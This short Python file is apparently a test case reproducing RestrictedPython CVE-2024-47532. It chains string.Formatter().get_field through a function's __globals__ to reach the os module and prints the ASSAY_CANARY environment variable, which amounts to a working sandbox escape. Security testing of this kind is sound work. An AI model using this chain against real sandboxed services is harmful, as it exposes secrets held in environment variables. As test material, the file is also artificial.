# source: RestrictedPython CVE-2024-47532
# effect: environment

import string

try:
    string.Formatter().get_field("a.__globals__[_os].missing", (), {"a": __import__("random").choice.__func__})
except AttributeError as error:
    print(error.obj.environ["ASSAY_CANARY"])
except KeyError:
    pass
